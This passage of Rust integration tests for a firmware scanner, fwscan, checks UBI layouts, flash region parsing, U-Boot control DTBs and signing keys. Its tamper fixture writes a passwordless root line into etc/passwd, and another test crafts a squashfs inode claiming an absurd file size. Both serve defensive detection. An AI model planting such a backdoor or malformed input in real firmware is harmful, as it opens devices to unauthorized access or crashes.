    assert_eq!(k["size"].as_u64(), Some(base.p32.kernel.len() as u64));
    assert_eq!(k["attrs"]["pinned"], true);
    assert_eq!(
        n["ubi/ubi/volume[kernel-a]/fit/image[kernel-1]"]["digest"],
        nodes(&inspect(&base.img32))["kernel/fit/image[kernel-1]"]["digest"]
    );
    let bb = &n["ubi/ubi/volume[rofs-a]/squashfs/bin/busybox"];
    assert_eq!(bb["kind"], "fs-file");

    // Wear levelling: two PEBs swap places and erase counters change: still clean.
    let m = dir.join("ubi.json");
    let (code, _, err) = fwscan(&[
        "baseline",
        path.to_str().unwrap(),
        "-o",
        m.to_str().unwrap(),
    ]);
    assert_eq!(code, 0, "{err}");
    let scan = |img: &[u8], name: &str| {
        let p = dir.join(name);
        std::fs::write(&p, img).unwrap();
        let (code, out, _) = fwscan(&[
            "scan",
            p.to_str().unwrap(),
            "-m",
            m.to_str().unwrap(),
            "--insecure-unsigned",
            "--format",
            "json",
        ]);
        let doc: Value = serde_json::from_str(&out).unwrap();
        (code, crate::harness::code_paths(&doc))
    };
    let peb = 0x10000usize;
    let mut moved = img.clone();
    let (a, b2) = (0x80000 + 3 * peb, 0x80000 + 9 * peb);
    let pa = moved[a..a + peb].to_vec();
    let pb = moved[b2..b2 + peb].to_vec();
    moved[a..a + peb].copy_from_slice(&pb);
    moved[b2..b2 + peb].copy_from_slice(&pa);
    moved[a + 15] = moved[a + 15].wrapping_add(1); // erase counter (header CRC not rechecked here)
    let (code, f) = scan(&moved, "moved.bin");
    assert_eq!(code, 0, "{f:?}");
    // A file changed inside the rofs volume is named.
    let root = b::make_root(&dir);
    std::fs::write(
        root.join("etc/passwd"),
        "root::0:0:root:/home/root:/bin/sh\n",
    )
    .unwrap();
    std::fs::write(
        dir.join("rofs.sqsh"),
        b::squashfs(&dir, &root, "rofs2.sqsh"),
    )
    .unwrap();
    b::run(
        &dir,
        ubinize,
        &["-o", "ubi2.img", "-p", "64KiB", "-m", "1", "ubi.cfg"],
    );
    let ubi2 = std::fs::read(dir.join("ubi2.img")).unwrap();
    let mut img2 = img.clone();
    img2[0x80000..0x80000 + ubi2.len()].copy_from_slice(&ubi2);
    let (code, f) = scan(&img2, "ubi-tampered.bin");
    assert_eq!(code, 1);
    assert!(
        f.contains(&(
            "file-modified".into(),
            "ubi/ubi/volume[rofs-a]/squashfs/etc/passwd".into()
        )),
        "{f:?}"
    );
}

#[test]
fn user_layouts_are_applied_and_content_is_parsed() {
    let Some(base) = base() else { return };
    let dir = b::scratch("user-layout");
    // The OpenBMC layout as a flashrom file: flash regions with their content parsed.
    let text: String = b::LAYOUT_32
        .iter()
        .map(|(n, o, s)| format!("{:08x}:{:08x} {n}\n", o, o + s - 1))
        .collect();
    std::fs::write(dir.join("bmc.layout"), &text).unwrap();
    let (code, out, err) = fwscan(&[
        "inspect",
        base.img32.to_str().unwrap(),
        "--layout",
        dir.join("bmc.layout").to_str().unwrap(),
        "--format",
        "json",
    ]);
    assert_eq!(code, 0, "{err}");
    let doc: Value = serde_json::from_str(&out).unwrap();
    let n = nodes(&doc);
    assert_eq!(n["rofs"]["kind"], "flash-region");
    assert_eq!(n["rofs"]["attrs"]["layout-source"], "user");
    assert!(n.contains_key("rofs/squashfs/bin/busybox"));
    assert!(n.contains_key("kernel/fit/image[kernel-1]"));
    assert_eq!(n["u-boot-env/env/bootargs"]["attrs"]["pinned"], true);
    // One region over a BMC image embedded in a larger dump: its own layout is found inside.
    let mut big = vec![0xFFu8; 0x100000];
    big.extend_from_slice(&std::fs::read(&base.img32).unwrap());
    std::fs::write(dir.join("big.bin"), &big).unwrap();
    std::fs::write(
        dir.join("big.layout"),
        "00000000:000fffff header\n00100000:020fffff bmc\n",
    )
    .unwrap();
    let (code, out, err) = fwscan(&[
        "inspect",
        dir.join("big.bin").to_str().unwrap(),
        "--layout",
        dir.join("big.layout").to_str().unwrap(),
        "--format",
        "json",
    ]);
    assert_eq!(code, 0, "{err}");
    let doc: Value = serde_json::from_str(&out).unwrap();
    let n = nodes(&doc);
    assert_eq!(n["bmc/rofs"]["attrs"]["layout-source"], "device-tree");
    assert_eq!(n["bmc/rofs"]["offset"].as_u64(), Some(0x100000 + 0x4C0000));
    let bb = &n["bmc/rofs/squashfs/bin/busybox"];
    assert_eq!(bb["kind"], "fs-file");
    assert_eq!(crate::harness::code_paths(&doc), vec![]);
}

/// A crafted extended file inode claiming a 2^60-byte file: the squashfs reader sizes a file's block
/// list from that claim. fwscan refuses the inode first, naming why.
#[test]
fn an_inode_claiming_an_absurd_file_size_is_refused_before_the_reader_allocates() {
    if !b::available() {
        return;
    }
    let dir = b::scratch("absurd-inode");
    let root = dir.join("root");
    std::fs::create_dir_all(&root).unwrap();
    std::fs::write(root.join("a"), b::kernel_bytes(7, 300_000)).unwrap();
    // A hard link makes mksquashfs write an extended file inode (64-bit size); -noI keeps the inode
    // table uncompressed so the test can patch it.
    std::fs::hard_link(root.join("a"), root.join("b")).unwrap();
    b::run(
        &dir,
        "mksquashfs",
        &[
            "root",
            "fs.sqsh",
            "-noI",
            "-noappend",
            "-comp",
            "xz",
            "-all-root",
            "-quiet",
            "-no-progress",
        ],
    );
    let good = std::fs::read(dir.join("fs.sqsh")).unwrap();
    let parse = |bytes: Vec<u8>| {
        let opts = fwscan::formats::ParseOptions {
            format: Some("squashfs".into()),
            ..Default::default()
        };
        fwscan::formats::parse_image(Arc::new(fwscan::input::Data::Owned(bytes)), &opts)
    };
    let tree = parse(good.clone());
    let mut files = 0;
    tree.walk(&mut |r| files += usize::from(r.kind == fwscan::region::RegionKind::FsFile));
    assert_eq!(files, 2, "{tree:#?}");
    let inode = u64::from_le_bytes(good[64..72].try_into().unwrap()) as usize;
    let table = inode + 2;
    let at = (0..64)
        .find(|o| u16::from_le_bytes([good[table + o], good[table + o + 1]]) == 9)
        .expect("an extended file inode");
    let mut bad = good.clone();
    bad[table + at + 24..table + at + 32].copy_from_slice(&(1u64 << 60).to_le_bytes());
    let tree = parse(bad);
    let notes = fwscan::region::note_findings(&tree);
    assert!(
        notes
            .iter()
            .any(|n| n.message.contains("block list cannot fit")),
        "{notes:#?}"
    );
}

/// Real U-Boot binaries (issue 21, point 1): the AST2500 and NPCM750 releases of `../shared/fixtures/bmc/`
/// and Debian's u-boot-qemu builds are split into the code and the appended control device tree, whose
/// end is the end of the file (checked against `fdtdump` reading the same bytes: same model and
/// totalsize); `check` is quiet on every one. A U-Boot whose control DTB holds a verified-boot key
/// (`mkimage -K`, as U-Boot's build does) lists it: name, algo, required, and the modulus digest, compared
/// with `openssl rsa -modulus`.
#[test]
fn real_u_boot_binaries_show_their_control_dtb_and_keys() {
    let mut files: Vec<PathBuf> = ["bmc/ast2500-evb-u-boot.bin", "bmc/npcm750-u-boot.bin"]
        .iter()
        .filter_map(|f| crate::harness::fixture(f))
        .collect();
    for f in [
        "/usr/lib/u-boot/maltael/u-boot.bin",
        "/usr/lib/u-boot/malta64el/u-boot.bin",
        "/usr/lib/u-boot/qemu-x86/u-boot.bin",
        "/usr/lib/u-boot/qemu-x86_64/u-boot.bin",
    ] {
        if crate::harness::have_file(f, "Debian u-boot-qemu") {
            files.push(PathBuf::from(f));
        }
    }
    if !crate::harness::have_tool("fdtdump", "device-tree-compiler")
        || !crate::harness::have_tool("mkimage", "u-boot-tools")
        || !crate::harness::have_tool("openssl", "openssl")
    {
        return;
    }
    let dir = b::scratch("uboot-dtb");
    for f in &files {
        let path = f.to_str().unwrap();
        let (code, out, err) = fwscan(&["check", path]);
        assert_eq!(code, 0, "{path}: {out}{err}");
        let n = nodes(&inspect(f));
        let bytes = std::fs::read(f).unwrap();
        let code_node = &n["u-boot-nodtb"];
        let dtb = &n["control-dtb"];
        let off = dtb["offset"].as_u64().unwrap() as usize;
        let size = dtb["size"].as_u64().unwrap() as usize;
        assert_eq!(off + size, bytes.len(), "{path}: the DTB ends the file");
        assert_eq!(code_node["size"].as_u64(), Some(off as u64), "{path}");
        assert!(code_node["attrs"]["version"]
            .as_str()
            .unwrap()
            .starts_with("U-Boot "));
        let blob = dir.join("control.dtb");
        std::fs::write(&blob, &bytes[off..]).unwrap();
        let dump = b::run(&dir, "fdtdump", &[blob.to_str().unwrap()]);
        assert!(
            dump.contains(&format!("// totalsize:\t\t{:#x} ({size})", size)),
            "{path}: {}",
            &dump[..dump.len().min(400)]
        );
        if let Some(model) = n["control-dtb/fdt"]["attrs"]["model"].as_str() {
            assert!(dump.contains(&format!("model = \"{model}\"")), "{path}");
        }
    }
    // A verified-boot key written into a control DTB by mkimage -K, appended to Debian's Malta U-Boot code.
    let Some(malta) = files.iter().find(|f| f.ends_with("maltael/u-boot.bin")) else {
        return;
    };
    std::fs::write(
        dir.join("c.dts"),
        "/dts-v1/;\n/ { model = \"fwscan test\"; };\n",
    )
    .unwrap();
    b::run(
        &dir,
        "dtc",
        &["-I", "dts", "-O", "dtb", "-o", "control.dtb", "c.dts"],
    );
    b::run(
        &dir,
        "openssl",
        &[
            "genpkey",
            "-algorithm",
            "RSA",
            "-pkeyopt",
            "rsa_keygen_bits:2048",
            "-out",
            "dev.key",
        ],
    );
    b::run(
        &dir,
        "openssl",
        &[
            "req", "-batch", "-new", "-x509", "-key", "dev.key", "-out", "dev.crt", "-subj",
            "/CN=dev",
        ],
    );
    std::fs::write(dir.join("k.bin"), vec![0x5Au8; 4096]).unwrap();
    std::fs::write(
        dir.join("f.its"),
        r#"/dts-v1/;
/ { description = "t"; #address-cells = <1>;
  images { kernel-1 { data = /incbin/("k.bin"); type = "kernel"; arch = "arm"; os = "linux";
    compression = "none"; load = <0x80000>; entry = <0x80000>; hash-1 { algo = "sha256"; }; }; };
  configurations { default = "conf-1"; conf-1 { kernel = "kernel-1";
    signature-1 { algo = "sha256,rsa2048"; key-name-hint = "dev"; sign-images = "kernel"; }; }; }; };
"#,
    )
    .unwrap();
    b::run(
        &dir,
        "mkimage",
        &[
            "-f",
            "f.its",
            "-k",
            ".",
            "-K",
            "control.dtb",
            "-r",
            "signed.fit",
        ],
    );
    let modulus_hex = b::run(
        &dir,
        "openssl",
        &["rsa", "-in", "dev.key", "-noout", "-modulus"],
    );
    let modulus = hex::decode(modulus_hex.trim().trim_start_matches("Modulus=")).unwrap();
    let want = hex::encode(<sha2::Sha256 as sha2::Digest>::digest(&modulus));
    let code = std::fs::read(malta).unwrap();
    let n0 = nodes(&inspect(malta));
    let code_len = n0["u-boot-nodtb"]["size"].as_u64().unwrap() as usize;
    let mut img = code[..code_len].to_vec();
    img.extend(std::fs::read(dir.join("control.dtb")).unwrap());
    let with_key = dir.join("u-boot-key.bin");
    std::fs::write(&with_key, &img).unwrap();
    let (code, out, err) = fwscan(&["check", with_key.to_str().unwrap()]);
    assert_eq!(code, 0, "{out}{err}");
    let n = nodes(&inspect(&with_key));
    let keys = n["control-dtb/fdt"]["attrs"]["signature-keys"]
        .as_array()
        .unwrap()
        .clone();
    assert_eq!(keys.len(), 1, "{keys:?}");
    assert_eq!(keys[0]["name"], "dev");
    assert_eq!(keys[0]["algo"], "sha256,rsa2048");
    assert_eq!(keys[0]["required"], "conf");
    assert_eq!(keys[0]["key-name-hint"], "dev");
    assert_eq!(keys[0]["rsa-num-bits"], 2048);
    assert_eq!(keys[0]["rsa-modulus-sha256"], want.as_str());
}
